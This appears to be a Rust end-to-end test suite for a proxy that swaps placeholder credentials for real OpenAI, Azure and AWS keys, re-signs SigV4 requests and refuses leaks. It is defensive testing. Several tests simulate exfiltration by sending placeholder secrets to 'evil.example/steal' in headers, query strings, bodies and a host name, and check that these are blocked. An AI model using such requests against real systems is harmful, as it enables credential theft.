//! End to end in one process, with real TLS on loopback: a stand-in upstream with its own CA
//! (reached through the test-only override), the proxy, and reqwest as the client.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use http::{Request, Response};
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper_util::rt::{TokioExecutor, TokioIo};
use maestro_wire::SecretValue;
use maestro_wire::agent_api::UsageAction;
use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
use rustls_pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};

use super::*;

const OPENAI_P: &str = "sk-proj-PLACEHOLDERaaaaaaaaaaaaaaaaaaaa";
const OPENAI_R: &str = "sk-proj-REALVALUEzzzzzzzzzzzzzzzzzzzzz";
const AZURE_P: &str = "azPLACEHOLDERbbbbbbbbbbbbbbbb";
const AZURE_R: &str = "azREALVALUE~yyyyyyyyyyyyyyyyy";

/// What the stand-in upstream saw: one line per request, "host METHOD target" + headers + body.
#[derive(Clone, Default)]
struct Seen(Arc<Mutex<Vec<String>>>);

impl Seen {
    fn all(&self) -> String {
        self.0.lock().unwrap().join("\n----\n")
    }
    fn count(&self) -> usize {
        self.0.lock().unwrap().len()
    }
}

struct Upstream {
    addr: SocketAddr,
    ca_pem: String,
    seen: Seen,
}

/// The stand-in: TLS with a certificate for every test host from its own CA; echoes the
/// request (target, headers, body) in its response body and the Authorization header back in
/// a response header.
async fn upstream() -> Upstream {
    let ca_key = KeyPair::generate().unwrap();
    let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    let ca_cert = ca_params.self_signed(&ca_key).unwrap();
    let issuer = Issuer::new(ca_params, ca_key);
    let key = KeyPair::generate().unwrap();
    let params = CertificateParams::new(vec![
        "api.openai.com".to_owned(),
        "login.microsoftonline.com".to_owned(),
        "evil.example".to_owned(),
        "sts.amazonaws.com".to_owned(),
        "s3.amazonaws.com".to_owned(),
    ])
    .unwrap();
    let cert = params.signed_by(&key, &issuer).unwrap();
    let mut config = rustls::ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(
            vec![cert.der().clone(), CertificateDer::from(ca_cert.der().to_vec())],
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
        )
        .unwrap();
    config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let seen = Seen::default();
    let seen2 = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((tcp, _)) = listener.accept().await else { return };
            let acceptor = acceptor.clone();
            let seen = seen2.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else { return };
                let sni = tls.get_ref().1.server_name().unwrap_or("").to_owned();
                let svc = service_fn(move |mut req: Request<Incoming>| {
                    let seen = seen.clone();
                    let sni = sni.clone();
                    async move {
                        if req.headers().get("upgrade").is_some_and(|u| u == "echo") {
                            let on = hyper::upgrade::on(&mut req);
                            tokio::spawn(async move {
                                let Ok(up) = on.await else { return };
                                let (mut r, mut w) = tokio::io::split(TokioIo::new(up));
                                let _ = tokio::io::copy(&mut r, &mut w).await;
                            });
                            let mut resp = Response::new(Full::new(Bytes::new()));
                            *resp.status_mut() = http::StatusCode::SWITCHING_PROTOCOLS;
                            resp.headers_mut().insert("connection", "upgrade".parse().unwrap());
                            resp.headers_mut().insert("upgrade", "echo".parse().unwrap());
                            return Ok::<_, std::convert::Infallible>(resp);
                        }
                        let (parts, body) = req.into_parts();
                        let body = body.collect().await.map(|b| b.to_bytes()).unwrap_or_default();
                        let mut text = format!("{sni} {} {}\n", parts.method, parts.uri);
                        for (k, v) in &parts.headers {
                            text.push_str(&format!(
                                "{k}: {}\n",
                                String::from_utf8_lossy(v.as_bytes())
                            ));
                        }
                        text.push_str(&String::from_utf8_lossy(&body));
                        seen.0.lock().unwrap().push(text.clone());
                        let mut resp = Response::new(Full::new(Bytes::from(text)));
                        if let Some(a) = parts.headers.get("authorization") {
                            resp.headers_mut().insert("x-echo-authorization", a.clone());
                            if a.as_bytes().starts_with(b"AWS4-HMAC-SHA256") {
                                let verdict = verify_sigv4(&parts, &body);
                                resp.headers_mut().insert("x-sigv4", verdict.parse().unwrap());
                            }
                        }
                        resp.headers_mut().insert("x-body-length", body.len().into());
                        Ok(resp)
                    }
                });
                let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                    .serve_connection_with_upgrades(TokioIo::new(tls), svc)
                    .await;
            });
        }
    });
    Upstream { addr, ca_pem: ca_cert.pem(), seen }
}

struct Fixture {
    up: Upstream,
    proxy: ProxyHandle,
    usage: Arc<UsageQueue>,
}

const AWS_KEY_P: &str = "AKIAPLACEHOLDER00001";
const AWS_KEY_R: &str = "AKIAREALKEYID0000002";
const AWS_SECRET_R: &str = "realSecretAccessKey/abcdefghijklmnopqrst";
const AWS_TOKEN_P: &str = "IQoJPLACEHOLDERtoken000000000000000000000";
const AWS_TOKEN_R: &str = "IQoJREALSESSIONtoken111111111111111111111";

/// An independent check of a SigV4 signature against the REAL keys (canonical request built
/// here; only the HMAC chain comes from aws-sigv4): "ok", or what is wrong.
fn verify_sigv4(parts: &http::request::Parts, body: &[u8]) -> String {
    use sha2::Digest;
    let auth = parts.headers["authorization"].to_str().unwrap();
    let field = |k: &str| {
        auth.split([' ', ',']).find_map(|p| p.strip_prefix(&format!("{k}="))).unwrap().to_owned()
    };
    let (cred, signed, sig) = (field("Credential"), field("SignedHeaders"), field("Signature"));
    let scope: Vec<&str> = cred.split('/').collect();
    if scope[0] != AWS_KEY_R {
        return format!("bad-key-id-{}", scope[0]);
    }
    let amz_date = parts.headers["x-amz-date"].to_str().unwrap();
    let mut query: Vec<&str> =
        parts.uri.query().unwrap_or("").split('&').filter(|q| !q.is_empty()).collect();
    query.sort();
    let mut canon_headers = String::new();
    for name in signed.split(';') {
        let value = if name == "host" {
            parts
                .headers
                .get("host")
                .map(|h| h.to_str().unwrap().to_owned())
                .unwrap_or_else(|| parts.uri.authority().unwrap().to_string())
        } else {
            let v: Vec<&str> =
                parts.headers.get_all(name).iter().map(|v| v.to_str().unwrap().trim()).collect();
            v.join(",")
        };
        canon_headers.push_str(&format!("{name}:{value}\n"));
    }
    let payload = match parts.headers.get("x-amz-content-sha256") {
        Some(h) => h.to_str().unwrap().to_owned(),
        None => hex::encode(sha2::Sha256::digest(body)),
    };
    let creq = format!(
        "{}\n{}\n{}\n{canon_headers}\n{signed}\n{payload}",
        parts.method,
        parts.uri.path(),
        query.join("&")
    );
    let sts = format!(
        "AWS4-HMAC-SHA256\n{amz_date}\n{}/{}/{}/aws4_request\n{}",
        scope[1],
        scope[2],
        scope[3],
        hex::encode(sha2::Sha256::digest(creq.as_bytes()))
    );
    let time = super::sigv4::parse_amz_date(amz_date).unwrap();
    let key = aws_sigv4::sign::v4::generate_signing_key(AWS_SECRET_R, time, scope[2], scope[3]);
    if aws_sigv4::sign::v4::calculate_signature(key, sts.as_bytes()) == sig {
        "ok".into()
    } else {
        "bad-signature".into()
    }
}

/// Signs a request the way an AWS SDK in the sandbox would: with the placeholder key id, a
/// made-up secret key and the placeholder session token.
fn client_sign(
    method: &str,
    url: &str,
    headers: &[(&str, &str)],
    body: aws_sigv4::http_request::SignableBody<'_>,
    service: &str,
) -> Vec<(String, String)> {
    use aws_sigv4::http_request::{SignableRequest, SigningSettings, sign};
    let identity = aws_credential_types::Credentials::new(
        AWS_KEY_P,
        "sandbox-only-fake-secret",
        Some(AWS_TOKEN_P.to_owned()),
        None,
        "test",
    )
    .into();
    let mut settings = SigningSettings::default();
    if service == "s3" {
        settings.percent_encoding_mode = aws_sigv4::http_request::PercentEncodingMode::Single;
        settings.uri_path_normalization_mode =
            aws_sigv4::http_request::UriPathNormalizationMode::Disabled;
    }
    let params = aws_sigv4::sign::v4::SigningParams::builder()
        .identity(&identity)
        .region("us-east-1")
        .name(service)
        .time(std::time::SystemTime::now())
        .settings(settings)
        .build()
        .unwrap()
        .into();
    let req = SignableRequest::new(method, url, headers.iter().copied(), body).unwrap();
    let (instructions, _) = sign(req, &params).unwrap().into_parts();
    instructions.headers().map(|(k, v)| (k.to_owned(), v.to_owned())).collect()
}

fn secrets() -> SealedSet {
    SealedSet {
        secrets: vec![
            SealedSecret {
                places: Vec::new(),
                name: "AWS".into(),
                hosts: vec!["*.amazonaws.com".into()],
                swaps: vec![Swap {
                    placeholder: AWS_TOKEN_P.into(),
                    real: SecretValue::from(AWS_TOKEN_R),
                }],
                sigv4: Some(SigV4Keys {
                    placeholder_key_id: AWS_KEY_P.into(),
                    key_id: SecretValue::from(AWS_KEY_R),
                    secret_key: SecretValue::from(AWS_SECRET_R),
                    session_token: Some(SecretValue::from(AWS_TOKEN_R)),
                }),
            },
            SealedSecret {
                places: Vec::new(),
                name: "OPENAI".into(),
                hosts: vec!["api.openai.com".into()],
                swaps: vec![Swap {
                    placeholder: OPENAI_P.into(),
                    real: SecretValue::from(OPENAI_R),
                }],
                sigv4: None,
            },
            SealedSecret {
                places: Vec::new(),
                name: "AZURE".into(),
                hosts: vec!["login.microsoftonline.com".into()],
                swaps: vec![Swap { placeholder: AZURE_P.into(), real: SecretValue::from(AZURE_R) }],
                sigv4: None,
            },
        ],
    }
}

async fn fixture_with(uids: Vec<u32>, limits: Limits) -> Fixture {
    fixture_tuned(uids, limits, |_| {}).await
}

async fn fixture_tuned(
    uids: Vec<u32>,
    limits: Limits,
    tune: impl FnOnce(&mut ProxyConfig),
) -> Fixture {
    let up = upstream().await;
    let usage = UsageQueue::new(1000);
    let mut config = ProxyConfig::new(uids, usage.clone());
    config.limits = limits;
    config.test_only_upstreams = vec![
        ("api.openai.com".into(), up.addr),
        ("login.microsoftonline.com".into(), up.addr),
        ("evil.example".into(), up.addr),
        ("*.amazonaws.com".into(), up.addr),
    ];
    config.test_only_upstream_ca = Some(up.ca_pem.clone());
    tune(&mut config);
    let proxy = Proxy::start(config).unwrap();
    proxy.set(secrets()).unwrap();
    Fixture { up, proxy, usage }
}

async fn fixture() -> Fixture {
    fixture_with(vec![0, nix::unistd::geteuid().as_raw()], Limits::default()).await
}

fn client(f: &Fixture) -> reqwest::Client {
    reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(format!("http://{}", f.proxy.local_addr())).unwrap())
        .add_root_certificate(reqwest::Certificate::from_pem(f.proxy.ca_pem().as_bytes()).unwrap())
        .timeout(Duration::from_secs(30))
        .build()
        .unwrap()
}

fn records(f: &Fixture, action: UsageAction) -> Vec<maestro_wire::agent_api::UsageReport> {
    f.usage.take(1000).into_iter().filter(|r| r.action == action).collect()
}

#[tokio::test]
async fn bearer_and_query_are_substituted_and_the_echo_comes_back_with_the_placeholder() {
    let f = fixture().await;
    let c = client(&f);
    let resp = c
        .get(format!("https://api.openai.com/v1/models?key={OPENAI_P}"))
        .bearer_auth(OPENAI_P)
        .header("x-api-key", OPENAI_P)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.version(), http::Version::HTTP_2, "h2 between client and proxy");
    let echoed_auth =
        resp.headers().get("x-echo-authorization").unwrap().to_str().unwrap().to_owned();
    let text = resp.text().await.unwrap();
    // The upstream got the real value in the target and both headers...
    let seen = f.up.seen.all();
    assert!(seen.contains(&format!("/v1/models?key={OPENAI_R}")), "{seen}");
    assert!(seen.contains(&format!("authorization: Bearer {OPENAI_R}")), "{seen}");
    assert!(seen.contains(&format!("x-api-key: {OPENAI_R}")), "{seen}");
    assert!(!seen.contains(OPENAI_P), "{seen}");
    // ...and the client sees only placeholders, in the echoed body and header.
    assert!(!text.contains(OPENAI_R) && text.contains(OPENAI_P), "{text}");
    assert_eq!(echoed_auth, format!("Bearer {OPENAI_P}"));
    let used = records(&f, UsageAction::Substituted);
    assert_eq!(used.len(), 1);
    assert_eq!(used[0].secret.as_deref(), Some("OPENAI"));
    assert_eq!(used[0].detail.as_deref(), Some("GET api.openai.com/v1/models"));
    assert_eq!(used[0].uid, Some(nix::unistd::geteuid().as_raw()));
    assert_eq!(used[0].pid, Some(std::process::id()));
}

#[tokio::test]
async fn basic_auth_and_form_body_are_substituted_over_http1() {
    let f = fixture().await;
    let c = reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(format!("http://{}", f.proxy.local_addr())).unwrap())
        .add_root_certificate(reqwest::Certificate::from_pem(f.proxy.ca_pem().as_bytes()).unwrap())
        .http1_only()
        .build()
        .unwrap();
    let body = format!("grant_type=client_credentials&client_id=app&client_secret={AZURE_P}");
    let resp = c
        .post("https://login.microsoftonline.com/tenant/oauth2/v2.0/token")
        .basic_auth("app", Some(AZURE_P))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.version(), http::Version::HTTP_11);
    let text = resp.text().await.unwrap();
    let seen = f.up.seen.all();
    assert!(seen.contains(&format!("client_secret={AZURE_R}")), "{seen}");
    use base64::Engine;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("app:{AZURE_R}"));
    assert!(seen.contains(&format!("authorization: Basic {basic}")), "{seen}");
    assert!(!text.contains(AZURE_R), "{text}");
    assert!(text.contains(&format!("client_secret={AZURE_P}")), "{text}");
}

#[tokio::test]
async fn a_placeholder_towards_another_host_is_refused_and_recorded_and_never_sent() {
    let f = fixture().await;
    let c = client(&f);
    for (req, place) in [
        (c.get("https://evil.example/steal").bearer_auth(OPENAI_P), "authorization header"),
        (c.get(format!("https://evil.example/steal?k={OPENAI_P}")), "request target"),
        (
            c.post("https://evil.example/steal")
                .header("content-type", "application/octet-stream")
                .body(format!("xx{OPENAI_P}yy")),
            "the body",
        ),
        (c.get("https://api.openai.com/x").bearer_auth(AZURE_P), "authorization header"),
    ] {
        let resp = req.send().await;
        match resp {
            Ok(r) => {
                assert_eq!(r.status(), 403, "{place}");
                let text = r.text().await.unwrap();
                assert!(text.contains("refused") && text.contains("recorded"), "{text}");
            }
            // A streamed body is cut off mid-way: the request fails.
            Err(e) => assert_eq!(place, "the body", "{e}"),
        }
    }
    let seen = f.up.seen.all();
    assert!(!seen.contains(OPENAI_R) && !seen.contains(AZURE_R), "{seen}");
    assert!(!seen.contains(OPENAI_P) && !seen.contains(AZURE_P), "{seen}");
    // Only the streamed body started towards the other host, and was cut off before the
    // placeholder (its first bytes may have arrived).
    assert!(f.up.seen.count() <= 1, "{seen}");
    let leaks = records(&f, UsageAction::LeakAttempt);
    assert_eq!(leaks.len(), 4, "{leaks:?}");
    assert!(leaks.iter().any(|l| l.secret.as_deref() == Some("AZURE")));
    assert!(leaks.iter().all(|l| !l.detail.as_deref().unwrap_or("").contains('?')));
}

#[tokio::test]
async fn after_an_empty_set_the_next_request_carries_no_real_value() {
    let f = fixture().await;
    let c = client(&f);
    let r = c.get("https://api.openai.com/a").bearer_auth(OPENAI_P).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(f.up.seen.all().contains(OPENAI_R));
    f.proxy.set(SealedSet::default()).unwrap();
    let before = f.up.seen.count();
    // Same kept-alive connection, then a new client (a plain tunnel now).
    let r = c.get("https://api.openai.com/b").bearer_auth(OPENAI_P).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let fresh = reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(format!("http://{}", f.proxy.local_addr())).unwrap())
        .add_root_certificate(reqwest::Certificate::from_pem(f.up.ca_pem.as_bytes()).unwrap())
        .build()
        .unwrap();
    let r = fresh.get("https://api.openai.com/c").bearer_auth(OPENAI_P).send().await.unwrap();
    assert_eq!(r.status(), 200);
    let seen = f.up.seen.0.lock().unwrap()[before..].join("\n");
    assert!(seen.contains("/b") && seen.contains("/c"), "{seen}");
    assert!(!seen.contains(OPENAI_R), "{seen}");
}

#[tokio::test]
async fn plain_http_with_a_placeholder_is_refused_even_to_its_own_host() {
    let f = fixture().await;
    let c = client(&f);
    let r = c.get("http://api.openai.com/v1").bearer_auth(OPENAI_P).send().await.unwrap();
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap().contains("plain http"));
    assert_eq!(f.up.seen.count(), 0);
    assert_eq!(records(&f, UsageAction::LeakAttempt).len(), 1);
}

#[tokio::test]
async fn a_uid_that_is_not_allowed_is_refused_and_recorded() {
    let f = fixture_with(vec![54321], Limits::default()).await;
    let c = client(&f);
    let r = c.get("http://api.openai.com/v1").send().await.unwrap();
    assert_eq!(r.status(), 403);
    assert!(r.text().await.unwrap().contains("may not use this proxy"));
    let denied = records(&f, UsageAction::Denied);
    assert_eq!(denied.len(), 1);
    assert_eq!(denied[0].uid, Some(nix::unistd::geteuid().as_raw()));
    assert_eq!(f.up.seen.count(), 0);
}

#[tokio::test]
async fn oversized_headers_and_connection_floods_are_bounded() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let limits =
        Limits { max_connections_per_uid: 4, max_header_bytes: 16 * 1024, ..Limits::default() };
    let f = fixture_with(vec![0, nix::unistd::geteuid().as_raw()], limits).await;
    let addr = f.proxy.local_addr();
    // A header far over the limit: refused (431 or the connection closed), never forwarded.
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    let big = "a".repeat(200 * 1024);
    let req = format!(
        "GET http://api.openai.com/ HTTP/1.1\r\nhost: api.openai.com\r\nx-big: {big}\r\n\r\n"
    );
    let _ = s.write_all(req.as_bytes()).await;
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out)).await;
    let head = String::from_utf8_lossy(&out);
    assert!(out.is_empty() || head.starts_with("HTTP/1.1 431"), "{head}");
    drop(s);
    // Four open connections of one uid, then the fifth is refused.
    let mut held = Vec::new();
    for _ in 0..4 {
        let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
        // One byte so that the proxy has surely accepted and counted it.
        s.write_all(b"G").await.unwrap();
        held.push(s);
    }
    tokio::time::sleep(Duration::from_millis(300)).await;
    let mut fifth = tokio::net::TcpStream::connect(addr).await.unwrap();
    let mut out = Vec::new();
    tokio::time::timeout(Duration::from_secs(10), fifth.read_to_end(&mut out))
        .await
        .unwrap()
        .unwrap();
    assert!(String::from_utf8_lossy(&out).starts_with("HTTP/1.1 503"));
    drop(held);
    assert_eq!(f.up.seen.count(), 0);
}

#[tokio::test]
async fn aws_requests_signed_with_the_placeholder_key_are_re_signed_with_the_real_keys() {
    let f = fixture().await;
    let c = client(&f);
    // STS: no x-amz-content-sha256, a small form body the proxy hashes.
    let body = "Action=GetCallerIdentity&Version=2011-06-15";
    let ct = "application/x-www-form-urlencoded; charset=utf-8";
    let signed = client_sign(
        "POST",
        "https://sts.amazonaws.com/",
        &[("host", "sts.amazonaws.com"), ("content-type", ct)],
        aws_sigv4::http_request::SignableBody::Bytes(body.as_bytes()),
        "sts",
    );
    let mut req = c.post("https://sts.amazonaws.com/").header("content-type", ct).body(body);
    for (k, v) in &signed {
        req = req.header(k, v);
    }
    let resp = req.send().await.unwrap();
    assert_eq!(resp.headers()["x-sigv4"], "ok");
    let text = resp.text().await.unwrap();
    let seen = f.up.seen.all();
    assert!(seen.contains(&format!("x-amz-security-token: {AWS_TOKEN_R}")), "{seen}");
    assert!(!seen.contains(AWS_KEY_P) && !seen.contains(AWS_TOKEN_P), "{seen}");
    // The echo shows the client placeholders only.
    assert!(!text.contains(AWS_KEY_R) && !text.contains(AWS_TOKEN_R), "{text}");
    assert!(text.contains(AWS_TOKEN_P), "{text}");

    // S3: UNSIGNED-PAYLOAD, a 3 MiB body streamed (not buffered), a path with an escape.
    let big = vec![b'x'; 3 * 1024 * 1024];
    let url = "https://s3.amazonaws.com/bucket/a%20key";
    let signed = client_sign(
        "PUT",
        url,
        &[("host", "s3.amazonaws.com"), ("x-amz-content-sha256", "UNSIGNED-PAYLOAD")],
        aws_sigv4::http_request::SignableBody::UnsignedPayload,
        "s3",
    );
    let mut req = c.put(url).header("x-amz-content-sha256", "UNSIGNED-PAYLOAD").body(big);
    for (k, v) in &signed {
        req = req.header(k, v);
    }
    let resp = req.send().await.unwrap();
    assert_eq!(resp.headers()["x-sigv4"], "ok");
    assert_eq!(resp.headers()["x-body-length"], (3 * 1024 * 1024).to_string().as_str());

    // Chunk-signed uploads are refused with a reason; so are pre-signed URLs.
    let signed = client_sign(
        "PUT",
        url,
        &[
            ("host", "s3.amazonaws.com"),
            ("x-amz-content-sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"),
        ],
        aws_sigv4::http_request::SignableBody::Precomputed(
            "STREAMING-AWS4-HMAC-SHA256-PAYLOAD".into(),
        ),
        "s3",
    );
    let mut req =
        c.put(url).header("x-amz-content-sha256", "STREAMING-AWS4-HMAC-SHA256-PAYLOAD").body("x");
    for (k, v) in &signed {
        req = req.header(k, v);
    }
    let resp = req.send().await.unwrap();
    assert_eq!(resp.status(), 400);
    assert!(resp.text().await.unwrap().contains("chunk-signed"));
    let resp = c
        .get(format!("https://s3.amazonaws.com/bucket/k?X-Amz-Credential={AWS_KEY_P}%2F20260101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=00"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    assert!(resp.text().await.unwrap().contains("pre-signed"));
    // A request signed with the placeholder key towards another host: a leak.
    let signed = client_sign(
        "GET",
        "https://evil.example/",
        &[("host", "evil.example")],
        aws_sigv4::http_request::SignableBody::empty(),
        "sts",
    );
    let mut req = c.get("https://evil.example/");
    for (k, v) in &signed {
        req = req.header(k, v);
    }
    assert_eq!(req.send().await.unwrap().status(), 403);
    let seen = f.up.seen.all();
    assert!(!seen.contains(AWS_KEY_R) || !seen.contains("evil.example /"), "{seen}");
    let used = records(&f, UsageAction::Substituted);
    assert!(
        used.iter().any(|u| u.detail.as_deref() == Some("PUT s3.amazonaws.com/bucket/a%20key")),
        "{used:?}"
    );
}

#[tokio::test]
async fn a_use_that_cannot_be_recorded_is_refused() {
    let up = upstream().await;
    let usage = UsageQueue::new(1);
    let mut config = ProxyConfig::new(vec![0, nix::unistd::geteuid().as_raw()], usage.clone());
    config.test_only_upstreams = vec![("api.openai.com".into(), up.addr)];
    config.test_only_upstream_ca = Some(up.ca_pem.clone());
    let proxy = Proxy::start(config).unwrap();
    proxy.set(secrets()).unwrap();
    // Fill the queue's only slot.
    usage
        .push(super::audit::report(
            &crate::dispatch::Peer::identify(0, None),
            UsageAction::Injected,
            None,
            "x".into(),
        ))
        .unwrap();
    let f = Fixture { up, proxy, usage };
    let r = client(&f).get("https://api.openai.com/v1").bearer_auth(OPENAI_P).send().await.unwrap();
    assert_eq!(r.status(), 503);
    assert!(r.text().await.unwrap().contains("cannot be recorded"));
    assert_eq!(f.up.seen.count(), 0);
}

#[tokio::test]
async fn a_big_json_body_streams_through_the_replacer() {
    let f = fixture().await;
    let c = client(&f);
    // Over the 1 MiB buffer limit, with the placeholder past it.
    let mut body = format!("{{\"pad\":\"{}\",\"key\":\"", "p".repeat(1024 * 1024 + 7));
    body.push_str(OPENAI_P);
    body.push_str("\"}");
    let len = body.len() - OPENAI_P.len() + OPENAI_R.len();
    let r = c
        .post("https://api.openai.com/v1/files")
        .header("content-type", "application/json")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-body-length"], len.to_string().as_str());
    let text = r.text().await.unwrap();
    assert!(text.contains(OPENAI_P) && !text.contains(OPENAI_R));
    assert!(f.up.seen.all().contains(OPENAI_R));
    assert_eq!(records(&f, UsageAction::Substituted).len(), 1);
}

fn me() -> Vec<u32> {
    vec![0, nix::unistd::geteuid().as_raw()]
}

#[tokio::test]
async fn an_upgrade_is_passed_through_after_its_headers_are_substituted() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let f = fixture().await;
    let c = reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(format!("http://{}", f.proxy.local_addr())).unwrap())
        .add_root_certificate(reqwest::Certificate::from_pem(f.proxy.ca_pem().as_bytes()).unwrap())
        .http1_only()
        .build()
        .unwrap();
    let resp = c
        .get("https://api.openai.com/v1/realtime")
        .header("connection", "upgrade")
        .header("upgrade", "echo")
        .bearer_auth(OPENAI_P)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 101);
    let mut up = resp.upgrade().await.unwrap();
    up.write_all(b"ping over the upgraded connection").await.unwrap();
    let mut buf = vec![0u8; 33];
    tokio::time::timeout(Duration::from_secs(10), up.read_exact(&mut buf)).await.unwrap().unwrap();
    assert_eq!(&buf, b"ping over the upgraded connection");
    assert_eq!(records(&f, UsageAction::Substituted).len(), 1);
}

#[tokio::test]
async fn pass_through_hosts_get_a_plain_tunnel_and_upstreams_are_verified() {
    // Pass-through: the client sees the upstream's own certificate (it trusts only that CA).
    let f =
        fixture_tuned(me(), Limits::default(), |c| c.pass_through = vec!["api.openai.com".into()])
            .await;
    let c = reqwest::Client::builder()
        .proxy(reqwest::Proxy::all(format!("http://{}", f.proxy.local_addr())).unwrap())
        .tls_certs_only([reqwest::Certificate::from_pem(f.up.ca_pem.as_bytes()).unwrap()])
        .build()
        .unwrap();
    let r = c.get("https://api.openai.com/pinned").bearer_auth(OPENAI_P).send().await.unwrap();
    assert_eq!(r.status(), 200);
    assert!(!f.up.seen.all().contains(OPENAI_R));
    // An upstream whose certificate the proxy does not trust never gets the request.
    let f = fixture_tuned(me(), Limits::default(), |c| c.test_only_upstream_ca = None).await;
    let r = client(&f).get("https://api.openai.com/v1").bearer_auth(OPENAI_P).send().await.unwrap();
    assert_eq!(r.status(), 502);
    assert_eq!(f.up.seen.count(), 0);
}

#[tokio::test]
async fn a_placeholder_in_a_host_name_is_refused() {
    let f = fixture().await;
    // Through CONNECT (https) and in an absolute http URL; clients lowercase host names.
    for scheme in ["https", "http"] {
        let r = client(&f).get(format!("{scheme}://x{OPENAI_P}.evil.example/")).send().await;
        match r {
            Ok(r) => assert_eq!(r.status(), 403),
            // reqwest reports a refused CONNECT as an error.
            Err(e) => assert!(format!("{e:?}").contains("403") || scheme == "https", "{e:?}"),
        }
    }
    assert_eq!(f.up.seen.count(), 0);
    assert_eq!(records(&f, UsageAction::LeakAttempt).len(), 2);
}

#[tokio::test]
async fn callers_are_identified_by_the_kernel_and_foreign_uids_refused() {
    use std::os::unix::fs::PermissionsExt;
    if !nix::unistd::geteuid().is_root() {
        eprintln!("skipped: needs root for setpriv");
        return;
    }
    let f = fixture_with(vec![0, 1000], Limits::default()).await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let ca = dir.path().join("ca.pem");
    std::fs::write(&ca, f.proxy.ca_pem()).unwrap();
    std::fs::set_permissions(&ca, std::fs::Permissions::from_mode(0o644)).unwrap();
    let proxy_url = format!("http://{}", f.proxy.local_addr());
    let curl = move |uid: &str, url: &str| {
        let out = std::process::Command::new("setpriv")
            .args([
                "--reuid",
                uid,
                "--regid",
                uid,
                "--clear-groups",
                "curl",
                "-s",
                "-o",
                "/dev/null",
            ])
            .args(["-w", "%{http_code}", "--cacert"])
            .arg(&ca)
            .args(["-x", &proxy_url])
            .args(["-H", &format!("authorization: Bearer {OPENAI_P}"), url])
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let (ok, refused) = tokio::task::spawn_blocking(move || {
        (curl("1000", "https://api.openai.com/v1/me"), curl("1001", "http://api.openai.com/v1/me"))
    })
    .await
    .unwrap();
    assert_eq!(ok, "200");
    assert_eq!(refused, "403");
    assert!(f.up.seen.all().contains(OPENAI_R));
    let all = f.usage.take(100);
    let used: Vec<_> = all.iter().filter(|r| r.action == UsageAction::Substituted).collect();
    assert_eq!(used.len(), 1, "{all:?}");
    assert_eq!(used[0].uid, Some(1000));
    assert!(used[0].pid.is_some(), "{all:?}");
    assert_eq!(used[0].command.as_deref(), Some("curl"));
    let denied: Vec<_> = all.iter().filter(|r| r.action == UsageAction::Denied).collect();
    assert_eq!(denied.len(), 1, "{all:?}");
    assert_eq!(denied[0].uid, Some(1001));
    assert_eq!(denied[0].command.as_deref(), Some("curl"));
}

/// Not a test: figures for the runtime choice and the docs. Run with
/// `cargo test --release -p maestro-agent measure_added_latency -- --ignored --nocapture`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "measurement, prints figures; scripts/bench.sh has the proxy's benchmark rows"]
async fn measure_added_latency() {
    let f = fixture().await;
    let n = 2000;
    let pct = |mut v: Vec<Duration>| {
        v.sort();
        let at = |p: f64| v[((v.len() as f64 * p) as usize).min(v.len() - 1)];
        format!("p50 {:?} p99 {:?}", at(0.5), at(0.99))
    };
    let direct = reqwest::Client::builder()
        .resolve("api.openai.com", f.up.addr)
        .add_root_certificate(reqwest::Certificate::from_pem(f.up.ca_pem.as_bytes()).unwrap())
        .build()
        .unwrap();
    let proxied = client(&f);
    for (name, c) in [("direct", &direct), ("proxy, kept alive", &proxied)] {
        let mut times = Vec::with_capacity(n);
        for i in 0..n + 100 {
            let t = std::time::Instant::now();
            let r =
                c.get("https://api.openai.com/v1/x").bearer_auth(OPENAI_P).send().await.unwrap();
            let _ = r.bytes().await.unwrap();
            if i >= 100 {
                times.push(t.elapsed());
            }
        }
        println!("{name}: {}", pct(times));
    }
    let mut times = Vec::new();
    for _ in 0..300 {
        let c = client(&f);
        let t = std::time::Instant::now();
        let r = c.get("https://api.openai.com/v1/x").bearer_auth(OPENAI_P).send().await.unwrap();
